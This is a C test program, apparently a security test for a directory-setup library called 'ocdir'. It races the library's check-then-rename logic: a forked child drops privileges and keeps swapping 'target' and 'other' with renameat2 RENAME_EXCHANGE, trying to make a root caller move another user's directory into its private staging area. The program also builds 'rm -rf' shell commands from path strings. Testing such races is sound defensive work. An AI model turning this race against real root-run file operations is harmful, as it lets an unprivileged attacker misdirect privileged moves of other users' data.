/* SPDX-License-Identifier: MIT */
/*
 * public_exchange.c - remove_from_public_name()/remove_at_hidden_name()
 * check the public name with fstatat and then rename *by name*; an
 * attacker who exchanges the name in between makes the root caller move a
 * third party's directory ("other", uid 1001, with a file) into its
 * private 0700 staging directory, where it stays (the staging directory
 * then cannot be removed), while the caller's own given-away directory
 * stays at a public name.
 *
 * Shared arena (0777 root) where staging cannot publish: the weak way,
 * OCDIR_ALLOW_WEAK_EMULATION, with OCDIR_TEST_NO_NOREPLACE=1 standing for
 * a filesystem without RENAME_NOREPLACE (NFS etc.; bindfs variants of
 * hostile3 reach the same setup_in_place(weak) path). Root victim; setup
 * fails with -EDQUOT. Attacker uid 65534 exchanges "target" and "other"
 * in a loop while the call runs.
 *
 * Also counts setup invocations per call (setup_staged runs setup, the
 * publish fails with EINVAL -> EOPNOTSUPP, then setup_in_place runs it
 * again).
 *
 *   OCDIR_TEST_NO_NOREPLACE=1 public_exchange BASE ROUNDS
 */
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include "ocdir.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static volatile int *sh;
static char arena[256];
static int setup_calls;
static pid_t attacker;
static int no_attack;

static int setup_fail(int fd, const char *path, unsigned int flags, void *arg)
{
	(void)fd; (void)path; (void)flags; (void)arg;
	setup_calls++;
	/* A setup that succeeds on the first directory it is given. */
	if (setup_calls == 1 && !getenv("FAIL_FIRST"))
		return 0;
	if (!attacker && !no_attack) {
		sh[0] = 0;
		attacker = fork();
		if (!attacker) {
			(void)!setresgid(65534, 65534, 65534);
			(void)!setresuid(65534, 65534, 65534);
			if (chdir(arena) < 0) _exit(1);
			sh[1] = 1;
			int plain = getenv("ATTACK_PLAIN") != NULL;	/* no RENAME_EXCHANGE (NFS) */
			while (!sh[0]) {
				if (!plain) {
					syscall(SYS_renameat2, AT_FDCWD, "target", AT_FDCWD, "other",
						RENAME_EXCHANGE);
					continue;
				}
				if (rename("target", "tmp") == 0) {
					rename("other", "target");
					rename("target", "other");
					rename("tmp", "target");
				}
			}
			_exit(0);
		}
		while (!sh[1]) ;
	}
	return -EDQUOT;
}

int main(int argc, char **argv)
{
	const char *base = argc > 1 ? argv[1] : "/dev/shm";
	long rounds = argc > 2 ? atol(argv[2]) : 1000, i;
	long hit_hidden = 0, hit_public = 0, twice = 0, succ = 0;
	long errs[200] = { 0 };
	char p[512];
	struct stat ost, st;

	no_attack = getenv("NO_ATTACK") != NULL;
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	umask(022);
	for (i = 0; i < rounds; i++) {
		snprintf(arena, sizeof arena, "%s/atkC.%d.%ld", base, getpid(), i);
		mkdir(arena, 0777);
		chmod(arena, 0777);
		snprintf(p, sizeof p, "%s/other", arena);
		mkdir(p, 0755);
		(void)!chown(p, 1001, 1001);
		lstat(p, &ost);
		snprintf(p, sizeof p, "%s/other/data", arena);
		close(open(p, O_CREAT | O_WRONLY, 0644));
		(void)!chown(p, 1001, 1001);

		int dfd = open(arena, O_PATH | O_DIRECTORY);
		struct ocdir_how how = { .flags = O_RDONLY, .mode = 0755,
					 .options = OCDIR_ALLOW_WEAK_EMULATION };
		setup_calls = 0;
		attacker = 0;
		sh[1] = 0;
		int fd = ocdir_openat2_setup(dfd, "target", &how, sizeof how, setup_fail, NULL, NULL);
		int e = errno;
		sh[0] = 1;
		if (attacker)
			waitpid(attacker, NULL, 0);
		close(dfd);
		if (fd >= 0) { succ++; close(fd); }
		else if (e < 200) errs[e]++;
		if (setup_calls > 1)
			twice++;

		/* where is "other" (uid 1001) now; what of root's is at a public name? */
		DIR *d = opendir(arena);
		struct dirent *de;
		int found_hidden = 0, root_public = 0;
		while ((de = readdir(d))) {
			if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
				continue;
			snprintf(p, sizeof p, "%s/%s", arena, de->d_name);
			lstat(p, &st);
			if (!strncmp(de->d_name, ".ocdir-stage.", 13)) {
				DIR *d2 = opendir(p);
				struct dirent *de2;
				while (d2 && (de2 = readdir(d2)))
					if (de2->d_ino == ost.st_ino)
						found_hidden = 1;
				if (d2) closedir(d2);
			} else if (st.st_uid == 0) {
				root_public = 1;
			}
		}
		closedir(d);
		if (found_hidden) hit_hidden++;
		if (root_public) hit_public++;
		if (found_hidden && hit_hidden <= 2) {
			char cmd[600];
			fprintf(stderr, "HIT round %ld: call -> %d errno %s\n", i, fd, strerror(e));
			snprintf(cmd, sizeof cmd, "find %s -printf '%%M %%u %%i %%p\\n' >&2", arena);
			(void)!system(cmd);
		}
		char cmd[600];
		snprintf(cmd, sizeof cmd, "rm -rf '%s'", arena);
		(void)!system(cmd);
	}
	printf("RESULT public_exchange base=%s rounds=%ld success=%ld setup_called_twice=%ld "
	       "HITS_foreign_dir_hidden_in_stage=%ld HITS_root_dir_at_public_name=%ld\n",
	       base, rounds, succ, twice, hit_hidden, hit_public);
	for (i = 0; i < 200; i++)
		if (errs[i])
			printf("  errno %s: %ld\n", strerror(i), errs[i]);
	return 0;
}
